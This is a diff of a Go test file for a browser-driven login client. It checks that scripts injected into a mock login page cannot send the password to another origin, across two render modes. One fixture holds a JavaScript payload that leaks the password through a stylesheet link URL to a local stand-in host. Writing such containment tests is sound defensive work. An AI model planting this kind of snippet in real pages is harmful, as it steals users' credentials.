@@ -84,31 +84,36 @@ func TestLoginPageScriptCannotSendThePasswordElsewhere(t *testing.T) {
 			return `pw => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '` + o + `/c.css?p=' + encodeURIComponent(pw); document.head.append(l); }`
 		}, false, false},
 	}
+	// RenderAlways runs the login page's scripts, which the tab must
+	// then contain; RenderAuto runs none of them on a page that holds
+	// its form, and the login goes on as if there were no script.
 	for _, c := range cases {
-		t.Run(c.name, func(t *testing.T) {
-			if c.popup && chrometest.Remote() != "" {
-				t.Skip("a remote Chrome may lack --block-new-web-contents")
-			}
-			other := newOtherSite(t)
-			m := mockserver.New(mockserver.WithClock(func() time.Time { return fixedNow }))
-			t.Cleanup(m.Close)
-			ts := injecting(t, m, "/Account/Login", attack(c.send(other.ts.URL)))
-			s := newSession(t, ts.URL+m.BasePath(), session.WithScreenshots(t.TempDir()))
-			err := s.LogIn(ctxT(t), mockserver.DemoUsername, mockserver.DemoPassword)
-			if c.fails {
-				assertOtherOrigin(t, err, session.PurposeHome, ts, other.ts)
-			} else {
-				require.NoError(t, err, "a refused GET fails nothing")
-				_, err = s.GetRoster(ctxT(t))
-				require.NoError(t, err)
-			}
-			require.NoError(t, s.Close())
-			assert.Equal(t, 0, m.Sessions(), "logged out")
-			other.assertNoPassword(t, mockserver.DemoPassword)
-			other.mu.Lock()
-			assert.Empty(t, other.seen, "the other origin got no request at all")
-			other.mu.Unlock()
-		})
+		for _, mode := range []session.Render{session.RenderAlways, session.RenderAuto} {
+			t.Run(c.name+" "+mode.String(), func(t *testing.T) {
+				if c.popup && chrometest.Remote() != "" {
+					t.Skip("a remote Chrome may lack --block-new-web-contents")
+				}
+				other := newOtherSite(t)
+				m := mockserver.New(mockserver.WithClock(func() time.Time { return fixedNow }))
+				t.Cleanup(m.Close)
+				ts := injecting(t, m, "/Account/Login", attack(c.send(other.ts.URL)))
+				s := newSession(t, ts.URL+m.BasePath(), session.WithScreenshots(t.TempDir()), session.WithRender(mode))
+				err := s.LogIn(ctxT(t), mockserver.DemoUsername, mockserver.DemoPassword)
+				if c.fails && mode == session.RenderAlways {
+					assertOtherOrigin(t, err, session.PurposeHome, ts, other.ts)
+				} else {
+					require.NoError(t, err, "a refused GET fails nothing, and a script that does not run nothing")
+					_, err = s.GetRoster(ctxT(t))
+					require.NoError(t, err)
+				}
+				require.NoError(t, s.Close())
+				assert.Equal(t, 0, m.Sessions(), "logged out")
+				other.assertNoPassword(t, mockserver.DemoPassword)
+				other.mu.Lock()
+				assert.Empty(t, other.seen, "the other origin got no request at all")
+				other.mu.Unlock()
+			})
+		}
 	}
 }
 
@@ -148,7 +153,7 @@ func TestSubmitted(t *testing.T) {
 	broken := loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
 document.querySelector('input[name="UserName"]').addEventListener('focus', () => document.querySelector('input[name="Password"]').remove());
 </script>`))
-	s := newSession(t, broken.URL+"/Mobile")
+	s := newSession(t, broken.URL+"/Mobile", session.WithRender(session.RenderAlways))
 	err := s.LogIn(ctxT(t), "joe.bloggs", testPassword)
 	var bad *session.BadResponseError
 	require.ErrorAs(t, err, &bad)
